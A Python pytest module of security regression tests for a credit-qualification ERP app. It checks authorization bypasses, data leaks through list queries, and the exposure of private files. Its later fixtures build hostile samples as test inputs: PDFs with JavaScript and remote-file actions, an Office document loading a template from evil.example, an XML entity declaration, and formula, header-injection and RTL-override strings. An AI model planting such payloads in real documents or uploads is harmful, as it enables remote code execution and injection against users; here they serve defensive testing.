"""Attacks on the qualification over HTTP, by people with their own roles, applicants and guests: each one found a hole.

A test here says what should have happened; it fails as long as the hole is open.
"""

import base64
import contextlib
import io
import json
import os
import threading
import zipfile
import zlib

import frappe
import openpyxl
import pytest
import requests
from PIL import Image

from cqs_app.erp.qualification import renewal, reports
from tests.bench.client import HttpError
from tests.erp import factories as make
from tests.erp.documents import asked_for, picture, row_of, send, token_of
from tests.erp.test_application import ACCEPTED, COMPLETE, make_applicant, no_gravatar  # noqa: F401
from tests.erp.test_attacks import order_of
from tests.erp.test_credit_reports import bureau, make_provider  # noqa: F401
from tests.erp.test_qualification import STATEMENT
from tests.erp.test_score import make_card

pytestmark = pytest.mark.committed

SALES, SALES2, STOCK, ANALYST, MANAGER, MANAGER2, COMPLIANCE = (
	f"{name}@cqs.example"
	for name in ("sales", "sales2", "stock", "analyst", "manager", "manager2", "compliance")
)
DOSSIER, APPLICATION = "Customer Qualification", "Credit Application"
OWNERS = [{"owner_name": "Shell Holding", "ownership_percent": 100, "country": "Germany"}]


def opened(**values):
	dossier = make.make_qualification(by=SALES, **values)
	frappe.db.commit()
	return dossier


def act(http, dossier, action, user, note=None):
	args = {"qualification": dossier.name, "action": action, "note": note}
	http(user).call("cqs_app.api.act_on_qualification", **args)
	return dossier.reload()


def put(http, dossier, user, **values):
	return http(user).put(f"/api/resource/{dossier.doctype}/{dossier.name}", **values)["data"]


def reviewed(http, **values):
	"""A dossier that only waits for its approval."""
	dossier = opened(**values)
	act(http, dossier, "Start Review", SALES)
	limit = {"approved_limit": dossier.requested_limit, "financial_statements": [STATEMENT]}
	put(http, dossier, ANALYST, **limit)
	act(http, dossier, "Pass Financials", ANALYST)
	return act(http, dossier, "Clear Compliance", COMPLIANCE)


def active(http, **values):
	return act(http, reviewed(http, **values), "Approve", MANAGER)


def attempt(call) -> bool:
	"""Whether it passed; an attack may be refused at any of its steps."""
	try:
		call()
	except HttpError:
		return False
	finally:
		frappe.db.rollback()
	return True


def status_of(doctype, name, *fields):
	frappe.db.rollback()
	return frappe.db.get_value(doctype, name, list(fields))


@contextlib.contextmanager
def mandatory_item():
	"""A mandatory item of the contract's checklist, as long as the block."""
	item = make.unique("Sign framework contract")
	settings = frappe.get_doc("CQS Settings")
	settings.append("contract_checklist", {"item": item, "is_mandatory": 1, "days": 5})
	settings.save()
	frappe.db.commit()
	try:
		yield item
	finally:
		frappe.db.rollback()
		settings = frappe.get_doc("CQS Settings")
		settings.contract_checklist = [row for row in settings.contract_checklist if row.item != item]
		settings.save()
		frappe.db.commit()


# --- reviews that are skipped ---------------------------------------------------------------------------------------


def test_an_identity_changed_while_information_is_awaited_is_reviewed_again(http):
	dossier = reviewed(http)
	act(http, dossier, "Request Information", COMPLIANCE, "Which tax id is right?")
	put(http, dossier, SALES, tax_id="55-5555555", country="Germany", requested_limit=90_000)
	act(http, dossier, "Start Review", SALES)
	assert (dossier.financial_status, dossier.compliance_status) == ("In Review", "In Review")
	assert dossier.stage == "Financial Review"


def test_another_party_is_cleared_by_compliance_of_its_own(http):
	cleared, other = make.make_customer(), make.make_customer()
	dossier = reviewed(http, party=cleared)
	if attempt(lambda: put(http, dossier, SALES, party=other.name)):
		dossier.reload()
		assert dossier.compliance_status == "In Review"


def test_the_account_belongs_to_the_party_that_the_dossier_names(http):
	shown, other = make.make_customer(), make.make_customer()
	dossier = opened(party=other)
	if attempt(lambda: put(http, dossier, SALES, party=shown.name)):
		assert status_of(DOSSIER, dossier.name, "party", "customer") == (shown.name, shown.name)


def test_a_lead_renamed_after_compliance_is_reviewed_again(http):
	lead = make.make_lead()
	dossier = reviewed(http, party_type="Lead", party=lead)
	name = make.unique("Sanctioned Corp")
	attempt(lambda: http(SALES).put(f"/api/resource/Lead/{lead.name}", company_name=name))
	attempt(lambda: act(http, dossier, "Approve", MANAGER))
	assert not frappe.db.exists("Customer", name), "approved under a name that nobody has cleared"


def test_another_customer_does_not_slip_under_a_cleared_lead(http):
	lead, rejected = make.make_lead(), make.make_customer()
	act(http, opened(party=rejected), "Reject", ANALYST, "Fraud")
	dossier = reviewed(http, party_type="Lead", party=lead)
	attempt(lambda: http(SALES).put(f"/api/resource/Customer/{rejected.name}", lead_name=lead.name))
	attempt(lambda: act(http, dossier, "Approve", MANAGER))
	order = order_of(rejected.name, 10, docstatus=1)
	assert not attempt(lambda: http(SALES).post("/api/resource/Sales Order", **order))


@pytest.mark.parametrize(
	("first", "change", "second"),
	[
		(SALES, {"tax_id": "11-1111111"}, COMPLIANCE),
		(COMPLIANCE, {"beneficial_owners": OWNERS}, SALES),
	],
)
def test_compliance_never_clears_its_own_change_whoever_else_changed_something(http, first, change, second):
	dossier = active(http)
	put(http, dossier, first, **change)
	if second == COMPLIANCE:
		put(http, dossier, COMPLIANCE, beneficial_owners=OWNERS)
	else:
		http(SALES).put(f"/api/resource/Customer/{dossier.customer}", tax_id="22-2222222")
	assert not attempt(lambda: act(http, dossier, "Clear Compliance", COMPLIANCE))


def test_facts_of_the_score_that_change_after_the_review_run_it_again(http):
	policy = make_card()
	group = policy.customer_group
	dossier = reviewed(http, party_type="Lead", customer_group=group, founded_on="2025-01-01")
	assert dossier.risk_class == "B"
	attempt(lambda: put(http, dossier, SALES, founded_on="1950-01-01"))
	dossier.reload()
	assert dossier.risk_class == "B" or dossier.financial_status == "In Review", "sales typed class A"


def test_nobody_chooses_the_policy_by_which_he_may_approve(http):
	policy = frappe.copy_doc(
		frappe.get_doc(
			"Credit Policy",
			frappe.db.get_value("Credit Policy", {"customer_group": ("is", "not set"), "enabled": 1}),
		)
	)
	policy.update({"policy_name": make.unique("Generous"), "customer_group": make.make_customer_group().name})
	policy.set("approval_levels", [{"up_to_amount": 0, "role": "Credit Manager"}])
	policy.insert()
	dossier = reviewed(http, party_type="Lead", requested_limit=500_000)
	assert not attempt(lambda: act(http, dossier, "Approve", MANAGER)), "a director's amount"
	attempt(lambda: put(http, dossier, MANAGER, customer_group=policy.customer_group))
	assert not attempt(lambda: act(http, dossier, "Approve", MANAGER))


def test_a_credit_report_on_another_company_does_not_count(http, bureau):  # noqa: F811
	frappe.db.set_value("Credit Report Provider", {"enabled": 1}, "enabled", 0)
	provider = make_provider(f"{bureau.url}/{{tax_id}}")
	try:
		dossier = opened(tax_id="GOOD-COMPANY-1")
		http(ANALYST).call("cqs_app.api.fetch_credit_report", qualification=dossier.name)
		put(http, dossier, SALES, tax_id="BAD-COMPANY-2")
		frappe.db.rollback()
		assert reports.latest_score(frappe.get_doc(DOSSIER, dossier.name)) is None
	finally:
		frappe.db.set_value("Credit Report Provider", provider.name, "enabled", 0)
		frappe.db.commit()


# --- fewer people than needed ---------------------------------------------------------------------------------------


def test_who_sent_a_document_through_his_own_link_does_not_verify_it(http):
	dossier = opened(documents=None)
	row, analyst = row_of(dossier), http(ANALYST)
	ask = {"qualification": dossier.name, "rows": [row.name], "email": "me@private.example"}
	token = token_of(analyst.call("cqs_app.api.request_documents", **ask)["url"])
	send("upload_document", file=("registration.png", picture()), token=token, row=row.name)
	verify = {"qualification": dossier.name, "row": row.name, "decision": "Verified"}
	assert not attempt(lambda: analyst.call("cqs_app.api.verify_document", **verify))


def test_who_typed_the_figures_does_not_approve_their_renewal(http):
	dossier = opened()
	act(http, dossier, "Start Review", SALES)
	put(http, dossier, MANAGER, approved_limit=50_000, financial_statements=[STATEMENT])
	for action, user in (
		("Pass Financials", ANALYST),
		("Clear Compliance", COMPLIANCE),
		("Approve", MANAGER2),
	):
		act(http, dossier, action, user)
	renew = {"qualification": dossier.name, "reason": "Again"}
	again = http(SALES).call("cqs_app.api.renew_qualification", **renew)
	frappe.db.rollback()
	fresh = frappe.get_doc(DOSSIER, again["name"])
	act(http, fresh, "Start Review", SALES)
	act(http, fresh, "Pass Financials", ANALYST)
	act(http, fresh, "Clear Compliance", COMPLIANCE)
	assert not attempt(lambda: act(http, fresh, "Approve", MANAGER)), "his limit and his figures, unchanged"


def test_a_renewal_that_time_began_names_no_approver_as_its_asker(http):
	dossier = active(http)
	renewal.fall_due(frappe.get_doc(DOSSIER, dossier.name), "planned")
	frappe.db.commit()
	fresh = frappe.get_doc(DOSSIER, {"previous": dossier.name})
	act(http, fresh, "Start Review", SALES)
	put(http, fresh, ANALYST, approved_limit=30_000)
	for action, user in (
		("Pass Financials", ANALYST),
		("Clear Compliance", COMPLIANCE),
		("Approve", MANAGER),
	):
		act(http, fresh, action, user)
	asked, approved = status_of(
		"Credit Limit Change", fresh.credit_limit_change, "requested_by", "approved_by"
	)
	assert asked != approved


@pytest.mark.parametrize("email", [SALES, "owner@buyer.example"])
def test_neither_a_colleague_nor_the_applicant_is_his_own_referee(http, email):
	referee = {"reference_type": "Trade", "referee": "Friend", "email": email}
	dossier = opened(contact_email="owner@buyer.example", trade_references=[referee])
	ask = "cqs_app.api.request_references"
	assert not attempt(lambda: http(SALES).call(ask, qualification=dossier.name))


# --- rows of other documents ----------------------------------------------------------------------------------------


def test_a_row_of_another_dossier_is_not_taken_from_it(http):
	"""Frappe writes a row by its name, wherever it was: a bad answer vanishes from the dossier that it was given for."""
	named = {"reference_type": "Trade", "referee": "Old Supplier", "email": "r@supplier.example"}
	dossier, other = opened(trade_references=[named]), opened()
	row = dossier.trade_references[0]
	frappe.db.set_value(
		row.doctype, row.name, {"status": "Received", "pays": "Written Off", "recommends": "No"}
	)
	stolen = [{"name": row.name, "reference_type": "Trade", "referee": "Old Supplier"}]
	attempt(lambda: put(http, other, SALES, trade_references=stolen))
	assert status_of(row.doctype, row.name, "parent", "status", "pays") == (
		dossier.name,
		"Received",
		"Written Off",
	)


def test_a_mandatory_item_is_not_taken_to_another_dossier(http):
	with mandatory_item() as item:
		dossier, other = active(http), opened()
		assert dossier.stage == "Contract and Onboarding"
		row = next(row for row in dossier.contract_items if row.item == item)
		stolen = [{"name": row.name, "item": "Something", "status": "Open"}]
		attempt(lambda: put(http, other, SALES, contract_items=stolen))
		attempt(lambda: put(http, dossier, SALES, website="https://buyer.example"))
		assert dossier.reload().stage == "Contract and Onboarding", "nobody has signed anything"


def test_a_row_of_another_applicant_is_not_taken_from_his_application(http, no_gravatar):  # noqa: F811
	mine, other = make_applicant(), make_applicant()
	frappe.db.commit()
	path = f"/api/resource/{APPLICATION}"
	draft = http(mine).post(path, **{**COMPLETE, "company_name": make.unique("Newcomer")})["data"]
	stolen = [{"name": draft["owners"][0]["name"], "owner_name": "Thief"}]
	thief = http(other)
	his = thief.post(path, company_name="Thief")["data"]["name"]
	attempt(lambda: thief.put(f"{path}/{his}", owners=stolen))
	frappe.db.rollback()
	assert [row.owner_name for row in frappe.get_doc(APPLICATION, draft["name"]).owners] == ["Nina New"]


# --- the contract ---------------------------------------------------------------------------------------------------


def test_an_item_typed_before_the_approval_does_not_stand_for_the_mandatory_one(http):
	with mandatory_item() as item:
		dossier = reviewed(http)
		attempt(lambda: put(http, dossier, SALES, contract_items=[{"item": item, "status": "Done"}]))
		act(http, dossier, "Approve", MANAGER)
		assert dossier.stage == "Contract and Onboarding"
		assert any(row.item == item and row.is_mandatory for row in dossier.contract_items)


def test_sales_do_not_lift_what_the_reviewer_of_a_letter_of_credit_refused(http):
	dossier = reviewed(http)
	put(http, dossier, ANALYST, letter_of_credit_review="Refused", letter_of_credit_note="Forged")
	act(http, dossier, "Approve", MANAGER)
	assert dossier.stage == "Contract and Onboarding"
	attempt(lambda: put(http, dossier, SALES, letter_of_credit_review=""))
	assert dossier.reload().stage == "Contract and Onboarding"


# --- which dossier counts -------------------------------------------------------------------------------------------


def test_the_newest_decision_counts_also_about_an_older_dossier(http):
	customer = make.make_customer()
	older = act(http, opened(party=customer), "Reject", ANALYST, "No figures")
	active(http, party=customer)
	attempt(lambda: act(http, older, "Reopen", SALES))
	if not attempt(lambda: act(http, older, "Reject", ANALYST, "Fraud was found")):
		return
	order = order_of(customer.name, 10, docstatus=1)
	assert not attempt(lambda: http(SALES).post("/api/resource/Sales Order", **order))


def under_way(customer) -> int:
	ended = ("Active", "Review Due", "Rejected", "Expired")
	frappe.db.rollback()
	return frappe.db.count(DOSSIER, {"customer": customer, "stage": ("not in", ended)})


def test_reopening_makes_no_second_dossier_under_way(http):
	customer = make.make_customer()
	first = act(http, opened(party=customer), "Reject", ANALYST, "No figures")
	opened(party=customer)
	attempt(lambda: act(http, first, "Reopen", SALES))
	assert under_way(customer.name) == 1


def test_two_who_open_at_once_open_one_dossier(http):
	customers = [make.make_customer().name for _ in range(3)]
	frappe.db.commit()
	clients = [http(SALES), http(SALES2)]
	for customer in customers:
		body = {"party_type": "Customer", "party": customer, "company": make.COMPANY, "requested_limit": 100}

		def post(client, body=body):
			with contextlib.suppress(HttpError):
				client.post(f"/api/resource/{DOSSIER}", **body)

		threads = [threading.Thread(target=post, args=(client,)) for client in clients]
		for thread in threads:
			thread.start()
		for thread in threads:
			thread.join()
	assert [under_way(customer) for customer in customers] == [1, 1, 1]


def test_a_lead_and_the_customer_that_it_became_have_one_dossier(http):
	lead = make.make_lead()
	opened(party_type="Lead", party=lead)
	customer = make.make_customer(lead_name=lead.name)
	body = {"party_type": "Customer", "party": customer.name, "company": make.COMPANY, "requested_limit": 100}
	frappe.db.commit()
	assert not attempt(lambda: http(SALES).post(f"/api/resource/{DOSSIER}", **body))


# --- what sales must not read ---------------------------------------------------------------------------------------

LISTS = {
	"statements": ("Qualification Statement", ["period_end", "ebit"]),
	"owners": ("Qualification Owner", ["owner_name", "ownership_percent", "date_of_birth"]),
	"score lines": ("Qualification Score Line", ["criterion", "points"]),
}


@pytest.fixture
def scored(http):
	dossier = reviewed(http, party_type="Lead", customer_group=make_card().customer_group)
	put(http, dossier, COMPLIANCE, beneficial_owners=OWNERS)
	dossier.reload()
	assert dossier.score and dossier.score_lines and dossier.beneficial_owners
	return dossier


@pytest.mark.parametrize("what", LISTS)
def test_sales_do_not_list_the_rows_of_restricted_tables(http, scored, what):
	doctype, fields = LISTS[what]
	query = {"doctype": doctype, "parent": DOSSIER, "fields": fields, "filters": {"parent": scored.name}}
	found = []
	attempt(lambda: found.extend(http(SALES).read("frappe.client.get_list", **query)))
	assert not [row for row in found if any(row.get(field) for field in fields)]


@pytest.mark.parametrize("method", ["frappe.client.get_list", "frappe.desk.reportview.get"])
def test_sales_do_not_list_figures_beside_the_dossier(http, scored, method):
	column = "`tabQualification Statement`.`ebit`"
	query = {
		"doctype": DOSSIER,
		"fields": json.dumps(["name", column]),
		"filters": json.dumps([["name", "=", scored.name]]),
	}
	found = []
	attempt(lambda: found.append(json.dumps(http(SALES).call(method, **query))))
	assert not [text for text in found if f'"{STATEMENT["ebit"]}"' in text]


def saved_by_rest(client, dossier):
	return client.put(f"/api/resource/{DOSSIER}/{dossier.name}", website="https://a.example")["data"]


def saved_by_value(client, dossier):
	change = {"fieldname": "website", "value": "https://b.example"}
	return client.call("frappe.client.set_value", doctype=DOSSIER, name=dossier.name, **change)


def saved_by_form(client, dossier):
	doc = client.get(f"/api/resource/{DOSSIER}/{dossier.name}")["data"]
	posted = json.dumps({**doc, "website": "https://c.example"})
	return client.post("/api/method/frappe.desk.form.save.savedocs", doc=posted, action="Save")["docs"][0]


@pytest.mark.parametrize("save", [saved_by_rest, saved_by_value, saved_by_form])
def test_the_answer_to_a_save_shows_no_more_than_the_form(http, scored, save):
	seen = save(http(SALES), scored)
	hidden = ("score", "risk_class", "financial_statements", "beneficial_owners", "approved_limit")
	assert not [field for field in hidden if seen.get(field)]


@pytest.mark.parametrize("user", [SALES, STOCK])
def test_the_credit_account_tells_sales_no_score(http, scored, user):
	act(http, scored, "Clear Compliance", COMPLIANCE)
	act(http, scored, "Approve", MANAGER)
	seen = http(user).get(f"/api/resource/Credit Account/{scored.credit_account}")["data"]
	assert not (seen.get("score") or seen.get("risk_class"))


def test_sales_do_not_search_by_what_they_may_not_read(http, scored):
	"""A filter that is honoured tells the figure, by halving."""
	sales = http(SALES)

	def found(more, less):
		rows = [["name", "=", scored.name], ["score", more, less]]
		try:
			return bool(sales.read("frappe.client.get_list", doctype=DOSSIER, filters=rows))
		except HttpError:
			return False

	assert found(">", scored.score - 1) == found(">", scored.score + 1)


# --- received files -------------------------------------------------------------------------------------------------


@pytest.fixture
def received():
	"""The address of a file that an applicant sent; sales read it in the rows of the dossier."""
	dossier = make.make_qualification(by=SALES, documents=None)
	token = asked_for(dossier)
	# Bytes of its own: Frappe keeps the same content once, with every record that somebody ever made of it.
	kept = io.BytesIO()
	Image.frombytes("RGB", (16, 16), os.urandom(768)).save(kept, "PNG")
	file = (f"{frappe.generate_hash(length=8)}.png", kept.getvalue())
	send("upload_document", file=file, token=token, row=row_of(dossier).name)
	return row_of(dossier.reload()).file


def alias(client, url):
	values = {"file_url": url, "file_name": url.rsplit("/", 1)[-1], "is_private": 1}
	return client.post("/api/resource/File", **values)["data"]["name"]


def test_a_second_record_does_not_open_a_received_file(http, received):
	sales = http(SALES)
	assert sales.session.get(sales.url + received).status_code == 403
	attempt(lambda: alias(sales, received))
	assert sales.session.get(sales.url + received).status_code == 403


def same_bytes(client, url):
	"""Whoever has a copy of the file, by e-mail for example, uploads it as his own."""
	with open(frappe.get_site_path(url.lstrip("/")), "rb") as stored:
		file = ("mine.png", stored.read())
	path = f"{client.url}/api/method/upload_file"
	return client.session.post(path, data={"is_private": 1}, files={"file": file}).json()["message"]["name"]


@pytest.mark.parametrize("second", [alias, same_bytes])
def test_a_second_record_does_not_publish_a_received_file(http, received, second):
	sales = http(SALES)

	def publish():
		sales.put(f"/api/resource/File/{second(sales, received)}", is_private=0)

	attempt(publish)
	public = received.replace("/private/", "/")
	assert requests.get(os.environ["CQS_URL"] + public, timeout=60).status_code != 200, "anybody reads it"
	assert os.path.exists(frappe.get_site_path(received.lstrip("/")))


PACKED = b"1 0 <</S/JavaScript/JS(app.alert(1))>>"
OBJECTS = b"%PDF-1.5\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter"
END = b"\nendstream endobj\nstartxref\n9\n%%EOF\n"
ACTIVE_PDFS = {
	"packed twice": OBJECTS
	+ b"[/FlateDecode/FlateDecode]>>stream\n"
	+ zlib.compress(zlib.compress(PACKED))
	+ END,
	"in digits": OBJECTS
	+ b"[/ASCIIHexDecode/FlateDecode]>>stream\n"
	+ zlib.compress(PACKED).hex().encode()
	+ b">"
	+ END,
	"after one return": OBJECTS + b"/FlateDecode>>stream\r" + zlib.compress(PACKED) + END,
	"remote file": b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/GoToR/F(\\\\\\\\evil\\\\x.pdf)>>>>endobj\nstartxref\n9\n%%EOF\n",
}


def office(**members) -> bytes:
	kept = io.BytesIO()
	with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
		archive.writestr("[Content_Types].xml", "<Types/>")
		archive.writestr("word/document.xml", "<w/>")
		for name, content in members.items():
			archive.writestr(name, content)
	return kept.getvalue()


TEMPLATE = '<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
ACTIVE_OFFICE = {
	"remote template": office(**{"word/_rels/settings.xml.rels": TEMPLATE}),
	"program": office(**{"word/embeddings/run.hta": "x"}),
	"shortcut": office(**{"word/embeddings/run.lnk": "x"}),
}


@pytest.mark.parametrize("kind", [*ACTIVE_PDFS, *ACTIVE_OFFICE])
def test_what_acts_by_itself_is_refused(kind):
	dossier = make.make_qualification(by=SALES, documents=None)
	token = asked_for(dossier)
	name = "x.pdf" if kind in ACTIVE_PDFS else "x.docx"
	content = ACTIVE_PDFS.get(kind) or ACTIVE_OFFICE[kind]
	assert (
		send("upload_document", file=(name, content), token=token, row=row_of(dossier).name).status_code
		== 417
	)


def test_document_definitions_are_found_in_every_encoding(http):
	book, kept = openpyxl.Workbook(), io.BytesIO()
	book.active.append(["Period End", "Revenue"])
	book.save(kept)
	forged = io.BytesIO()
	with zipfile.ZipFile(kept) as source, zipfile.ZipFile(forged, "w") as target:
		for name in source.namelist():
			content = source.read(name)
			if name.endswith("sheet1.xml"):
				head = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE z [<!ENTITY x "EXPANDED">]>'
				content = (head + content.decode()).encode("utf-16")
			target.writestr(name, content)
	args = {"filename": "x.xlsx", "content": base64.b64encode(forged.getvalue()).decode(), "dry_run": 1}
	found = http(ANALYST).call("cqs_app.api.import_statements", qualification=opened().name, **args)
	assert "document definitions" in " ".join(found["errors"])


# --- applicants on the web ------------------------------------------------------------------------------------------


@pytest.fixture
def secret(http, no_gravatar):  # noqa: F811
	"""One applicant's draft, and another applicant's client."""
	mine, other = make_applicant(), make_applicant()
	frappe.db.commit()
	values = {"company_name": make.unique("Secret"), "tax_id": make.unique("TAX")}
	return http(mine).post(f"/api/resource/{APPLICATION}", **{**COMPLETE, **values})["data"], http(other)


@pytest.mark.parametrize("doctype", ["Credit Application Owner", "Credit Application Reference"])
def test_an_applicant_does_not_list_rows_of_others(secret, doctype):
	draft, stranger = secret
	query = {"doctype": doctype, "parent": APPLICATION, "fields": ["*"], "filters": {"parent": draft["name"]}}
	found = []
	attempt(lambda: found.extend(stranger.read("frappe.client.get_list", **query)))
	assert not found


def test_an_applicant_does_not_count_applications_of_others(secret):
	"""A count with filters tells every field, letter by letter."""
	draft, stranger = secret
	filters = [["tax_id", "=", draft["tax_id"]]]
	counted = []
	query = {"doctype": APPLICATION, "filters": filters}
	attempt(lambda: counted.append(stranger.read("frappe.client.get_count", **query)))
	assert not any(counted)


@pytest.mark.parametrize(
	"name", ['=HYPERLINK("http://evil.example","x")', "Newcomer\r\nBcc: all@x.example", "New\u202ecomer"]
)
def test_a_company_name_is_one_line_and_no_formula(secret, http, name):
	draft, _stranger = secret
	client = http(draft["owner"])
	assert not attempt(lambda: client.put(f"/api/resource/{APPLICATION}/{draft['name']}", company_name=name))
